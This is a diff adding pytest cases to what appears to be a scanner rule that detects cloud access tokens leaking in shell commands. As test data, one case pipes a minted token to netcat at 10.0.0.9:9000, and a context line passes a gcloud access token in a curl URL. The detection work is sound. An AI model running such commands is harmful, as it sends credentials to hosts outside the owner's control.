@@ -115,3 +115,14 @@ def test_every_placeholder_spelling_reads_like_the_users_endpoint(url, inline):
     assert found(elsewhere, rule="SF515") == [("SF515", "high")], elsewhere
     query = _block(f'curl "{url}?access_token=$(gcloud auth print-access-token)"')
     assert found(query, rule="SF515") == [("SF515", "high")], query
+
+
+# A client's name inside the service's host (`-nc`, netcat; `mail-`) names no socket or mailer:
+# the token still goes only to the user's own function. A real `| nc` on the line sends it on.
+@pytest.mark.parametrize("host", ["https://api-nc.a.run.app", "https://mail-ssh-x.a.run.app"])
+def test_a_client_name_inside_the_own_host_is_no_client(host):
+    assert found(_block(_call(host)), rule="SF515") == [("SF515", "medium")]
+
+
+def test_a_token_piped_on_to_a_socket_stays_high():
+    assert found(_block(f"echo {_MINT} | nc 10.0.0.9 9000"), rule="SF515") == [("SF515", "high")]
